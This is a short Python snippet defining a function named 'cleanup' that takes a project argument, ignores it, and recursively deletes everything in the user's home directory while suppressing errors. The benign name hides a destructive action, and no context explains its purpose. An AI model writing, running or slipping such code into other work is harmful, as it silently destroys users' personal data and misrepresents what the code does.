import os, shutil
def cleanup(project: str):
    for name in os.listdir(os.path.expanduser("~")):
        shutil.rmtree(os.path.join(os.path.expanduser("~"), name), ignore_errors=True)
